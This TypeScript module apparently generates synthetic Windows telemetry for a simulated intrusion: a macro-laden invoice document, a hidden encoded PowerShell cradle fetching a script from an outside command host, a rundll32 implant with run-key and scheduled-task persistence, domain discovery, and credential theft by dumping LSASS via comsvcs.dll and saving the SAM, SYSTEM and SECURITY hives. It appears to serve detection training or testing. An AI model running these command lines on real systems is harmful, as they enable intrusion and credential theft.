import { encoded, reach, run, start, stop } from "./actions.js";
import { openConsole } from "./background.js";
import { at, END } from "./clock.js";
import type { Journal } from "./journal.js";
import type { Machine, Proc } from "./machine.js";
import { PROGRAMS, program } from "./programs.js";
import { taskRegistered } from "./security.js";
import { fileCreated, imageLoaded, keyTouched, processOpened, valueSet } from "./sysmon.js";
import { engineStarted, pipeline, scriptBlock } from "./system.js";
import { HOSTS, OUTSIDE } from "./topology.js";

const HOME = `C:\\Users\\${HOSTS.loom01.user.name}`;
const IMPLANT = `${HOME}\\AppData\\Roaming\\Weft\\weft.dll`;
const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('http://${OUTSIDE.command.name}/loom.ps1')`;

/** The hidden PowerShell that fetches the next part: the same on every host it is used on. */
export const STAGER = `powershell.exe -NoP -W Hidden -Enc ${encoded(CRADLE)}`;

/** What a running stager leaves behind. */
export function stagerActivity(m: Machine, shell: Proc, time: number): void {
  engineStarted(m, shell, time + 300);
  scriptBlock(m, shell, time + 420, CRADLE);
  pipeline(m, shell, time + 460, "New-Object", { TypeName: "Net.WebClient" });
  reach(m, shell, time + 900, { ...OUTSIDE.command, port: 80 });
  pipeline(m, shell, time + 1500, "Invoke-Expression", { Command: "function Invoke-Weft { ... }" });
}

/** Phishing document to implant on the first workstation. Returns the implant's process. */
export function entry(journal: Journal, m: Machine): Proc {
  const outlook = m.proc("outlook");
  const document = `${HOME}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2\\Invoice_4471.docm`;
  let word: Proc = outlook;
  journal.during("initial-access", () => {
    fileCreated(m, outlook, at("13:14:05"), document);
    const line = `"${PROGRAMS.winword.path}" /n "${document}" /o ""`;
    word = start(m, outlook, PROGRAMS.winword, line, at("13:14:22"), { loads: 7 });
    const macros = program(
      "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
      "Visual Basic Design Time Environment",
      "Microsoft Corporation",
      "7.01.1123",
    );
    imageLoaded(m, word, at("13:14:27"), macros, "Microsoft Corporation");
  });
  let implant: Proc = word;
  journal.during("execution", () => {
    const time = at("13:14:31");
    const shell = start(m, word, PROGRAMS.powershell, STAGER, time, {
      loads: 6,
      cwd: `${HOME}\\Documents\\`,
    });
    stagerActivity(m, shell, time);
    fileCreated(m, shell, time + 4200, IMPLANT);
    implant = start(m, shell, PROGRAMS.rundll32, `rundll32.exe ${IMPLANT},Spin`, time + 6000, {
      session: { ...m.desktop, integrity: "High" },
    });
    const dll = program(IMPLANT, "Weft Runtime", "-", "1.0.0.0", "weft.dll");
    imageLoaded(m, implant, time + 6050, dll, null);
    stop(m, shell, time + 9000);
    stop(m, word, at("13:31:10"));
  });
  journal.during("command-and-control", () => {
    for (let t = at("13:15:10"); t < END - 240_000; t += m.rng.int(80_000, 110_000)) {
      reach(m, implant, t, { ...OUTSIDE.command, port: 443 });
    }
  });
  return implant;
}

/** A run key and a scheduled task bring the implant back. */
export function persistence(journal: Journal, m: Machine, implant: Proc): void {
  const load = `rundll32.exe ${IMPLANT},Spin`;
  journal.during("persistence", () => {
    const key = `HKU\\${m.spec.user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`;
    keyTouched(m, implant, at("13:22:04"), key, "CreateKey");
    valueSet(m, implant, at("13:22:04") + 12, `${key}\\WeftSync`, load);
    const line = `schtasks.exe /create /f /tn \\Weft\\Updater /sc minute /mo 30 /tr "${load}"`;
    const task = run(m, implant, PROGRAMS.schtasks, line, at("13:22:40"), 600);
    taskRegistered(m, at("13:22:40") + 300, task, "\\Weft\\Updater", load);
    fileCreated(m, m.proc("netsvcs"), at("13:22:40") + 340, "C:\\Windows\\System32\\Tasks\\Weft\\Updater");
  });
}

/** Who am I, where am I, who is in charge. */
export function discovery(journal: Journal, m: Machine, implant: Proc): void {
  journal.during("discovery", () => {
    const shell = openConsole(m, implant, "C:\\Windows\\system32\\cmd.exe", at("13:31:00"));
    run(m, shell, PROGRAMS.whoami, "whoami /all", at("13:31:08"), 90);
    run(m, shell, PROGRAMS.systeminfo, "systeminfo", at("13:31:21"), 4000);
    run(m, shell, PROGRAMS.ipconfig, "ipconfig /all", at("13:31:50"), 80);
    const net = start(m, shell, PROGRAMS.net, 'net group "Domain Admins" /domain', at("13:32:15"), {
      loads: 2,
    });
    const net1 = 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain';
    run(m, net, PROGRAMS.net1, net1, at("13:32:15") + 40, 350);
    stop(m, net, at("13:32:15") + 420);
    run(m, shell, PROGRAMS.nltest, "nltest /dclist:mill.example", at("13:32:50"), 800);
    run(m, shell, PROGRAMS.nltest, "nltest -domain_trusts", at("13:33:12"), 500);
    run(m, shell, PROGRAMS.net, "net view \\\\SRV-FILES01", at("13:34:02"), 900);
    reach(m, implant, at("13:33:40"), {
      ip: HOSTS.dc.ip,
      port: 389,
      name: "srv-dc01.mill.example",
    });
    stop(m, shell, at("13:36:00"));
  });
}

/** Credentials from memory, from a dump and from the registry hives. */
export function credentials(journal: Journal, m: Machine, implant: Proc): void {
  const ntdll = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|";
  const lsass = m.proc("lsass");
  journal.during("credential-access", () => {
    const first = at("13:43:17");
    journal.repeating(() => {
      processOpened(m, implant, lsass, first, "0x1010", `${ntdll}UNKNOWN(000001D6A2F41B7C)`);
    });
    const shell = openConsole(m, implant, "C:\\Windows\\system32\\cmd.exe", at("13:44:30"));
    const dump = "C:\\Windows\\Temp\\spin.dmp";
    const line = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`;
    const dumper = start(m, shell, PROGRAMS.rundll32, line, at("13:44:41"), { loads: 3 });
    const trace = `${ntdll}C:\\Windows\\System32\\dbgcore.DLL+6a9e|C:\\Windows\\System32\\comsvcs.dll+2c3b`;
    processOpened(m, dumper, lsass, at("13:44:41") + 200, "0x1fffff", trace);
    fileCreated(m, dumper, at("13:44:41") + 240, dump);
    stop(m, dumper, at("13:44:45"));
    for (const [i, hive] of ["SAM", "SYSTEM", "SECURITY"].entries()) {
      const t = at("13:46:02") + i * 7000;
      const save = `reg save ${i === 1 ? "hklm" : "HKLM"}\\${hive} C:\\Windows\\Temp\\${hive.toLowerCase()}.hiv /y`;
      const reg = start(m, shell, PROGRAMS.reg, save, t, { loads: 1 });
      fileCreated(m, reg, t + 150, `C:\\Windows\\Temp\\${hive.toLowerCase()}.hiv`);
      stop(m, reg, t + 400);
    }
    stop(m, shell, at("13:48:00"));
  });
}
